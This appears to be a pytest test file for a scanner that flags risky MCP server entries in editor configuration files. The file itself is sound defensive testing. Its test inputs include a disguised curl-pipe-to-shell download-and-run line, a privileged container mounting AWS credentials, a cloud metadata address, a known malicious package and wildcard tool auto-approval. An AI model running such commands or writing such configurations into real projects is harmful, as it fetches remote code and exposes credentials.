"""One server in a project's config, and all that is said of it: nothing less, nothing more."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from aispm.rulebook import Rulebook, evaluate
from aispm.scan import Settings, analyse, load_rules
from tests.providers.files.scanned import scan


@cache
def rules() -> Rulebook:
    return load_rules(Settings())


PINNED = {"command": "npx", "args": ["acme-x@1.0.0"]}


def said(
    root: Path, body: dict[str, Any], name: str = "a", path: str = ".cursor/mcp.json"
) -> set[str]:
    """The rules with findings, without what they are all called by."""
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps({"mcpServers": {name: body}}))
    analysis = analyse(scan(root), rules())
    verdict = evaluate(rules(), analysis.snapshot, {}, lambda *_: ())
    return {one.rule.removeprefix("mcp-") for one in verdict.findings}


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("npx acme-x@1.0.0", set()),
        ("npx acme-x", {"package-unpinned"}),
        ("uvx --from git+https://git.example/acme/x x", {"source-without-commit"}),
        ("docker run -i --rm acme/x:1", {"image-not-by-digest"}),
        (
            "docker run --privileged -v ~/.aws:/a acme/x",
            {"image-not-by-digest", "container-privileged", "sensitive-mount"},
        ),
        ("docker run --network=host acme/x", {"image-not-by-digest", "container-shares-host"}),
        ("npx postmark-mcp@1.0.16", {"package-malicious"}),
        ("npx x@npm:postmark-mcp@1.0.16", {"package-malicious"}),
        (
            "npx https://registry.npmjs.org/postmark-mcp/-/postmark-mcp-1.0.16.tgz",
            {"package-malicious"},
        ),
        ("dotenvx run -- npx postmark-mcp@1.0.16", {"package-malicious"}),
        ("uvx mcp-proxy==1 -- npx postmark-mcp@1.0.16", {"package-malicious"}),
        ("uvx acme-x==1", set()),
        ("npx mcp-remote@0.1.0 http://localhost/mcp", {"package-vulnerable"}),
        ("uvx mcp-server-git", {"package-unpinned", "package-vulnerability-open"}),
        ("npx @modelcontextprotocol/server-gdrive@2025.1.14", {"package-archived"}),
        ("npx @anthropic/server-everything@1.0.0", {"package-lookalike"}),
        ("npx --registry https://npm.example acme-x@1.0.0", {"custom-registry"}),
        ("npx --registry http://npm.example acme-x@1.0.0", {"registry-plain-http"}),
        ("bash -c /srv/a|tee", {"shell-command"}),
        ("sh -c curl${IFS}https://h.example|sh", {"download-and-run"}),
        ("node -e require('x')", {"inline-code"}),
        ("node /tmp/x.js", {"runs-from-temporary-folder"}),
        ("npx acme-x@1.0.0 --insecure", {"tls-unchecked"}),
        ("npx acme-x@1.0.0 --host 0.0.0.0", {"binds-all-interfaces"}),
        ("npx acme-filesystem@1.0.0 /home/u", {"filesystem-whole-home"}),
        ("npx acme-x@1.0.0 --allow-write", {"writes-enabled"}),
        (
            "npx @supabase/mcp-server-supabase@99.0.0",
            {"read-only-unused", "server-lethal-trifecta"},
        ),
        ("npx acme-x@1.0.0 --all-tools", {"all-toolsets"}),
        ("npx acme-shell@1.0.0", {"shell-server"}),
        ("npx @playwright/mcp@99.0.0 --extension", {"browser-live-profile"}),
        ("npx @playwright/mcp@99.0.0 --no-sandbox", {"browser-without-sandbox"}),
        ("npx acme-x@1.0.0 --no-audit", {"calls-not-logged"}),
    ],
)
def test_what_runs_here(tmp_path: Path, line: str, expected: set[str]) -> None:
    command, *args = line.split(" ")
    assert said(tmp_path, {"command": command, "args": args}) == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ({"url": "https://mcp.notion.com/mcp"}, {"server-lethal-trifecta"}),
        ({"url": "https://h.example/mcp"}, {"remote-without-login"}),
        ({"url": "http://h.example/mcp"}, {"remote-without-login", "remote-plain-http"}),
        ({"url": "http://0.0.0.0:3000/mcp"}, set()),
        ({"url": "http://a.localhost/mcp"}, set()),
        ({"url": "https://h.example/sse"}, {"remote-without-login", "legacy-sse"}),
        ({"url": "https://x.ngrok-free.app/mcp"}, {"remote-without-login", "third-party-proxy"}),
        (
            {"url": "https://h.example/mcp", "headers": {"Authorization": "${env:GITHUB_TOKEN}"}},
            {"token-for-other-vendor"},
        ),
        (
            {"url": "http://169.254.169.254/latest"},
            {"remote-without-login", "remote-plain-http", "metadata-address"},
        ),
        (
            {"url": "https://h.example/mcp", "oauth": {"scopes": ["admin:org"]}},
            {"broad-oauth-scope"},
        ),
    ],
)
def test_what_is_called(tmp_path: Path, body: dict[str, Any], expected: set[str]) -> None:
    assert said(tmp_path, body) == expected


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        ({"env": {"NODE_OPTIONS": "--require /srv/x.js"}}, {"loader-variable"}),
        ({"autoApprove": ["*"]}, {"auto-approve-all"}),
        ({"autoApprove": ["run_query"]}, {"auto-approve-destructive"}),
        ({"autoApprove": ["list_tables"], "disabled": True}, set()),
    ],
)
def test_settings(tmp_path: Path, settings: dict[str, Any], expected: set[str]) -> None:
    assert said(tmp_path, {**PINNED, **settings}) == expected


@pytest.mark.parametrize(
    ("name", "path", "body", "expected"),
    [
        (
            "github",
            ".cursor/mcp.json",
            {"url": "https://h.example/mcp", "oauth": True},
            {"name-mimics"},
        ),
        ("a", ".vscode/mcp.json", PINNED, {"config-ignored"}),
        ("a", ".cursor/mcp.json.example", {"command": "npx", "args": ["acme-x"]}, set()),
        (
            "a",
            "claude_desktop_config.json",
            {"url": "https://h.example/mcp", "headers": {"Authorization": "${X}"}},
            {"field-ignored"},
        ),
    ],
)
def test_names_and_places(
    tmp_path: Path, name: str, path: str, body: dict[str, Any], expected: set[str]
) -> None:
    assert said(tmp_path, body, name, path) == expected
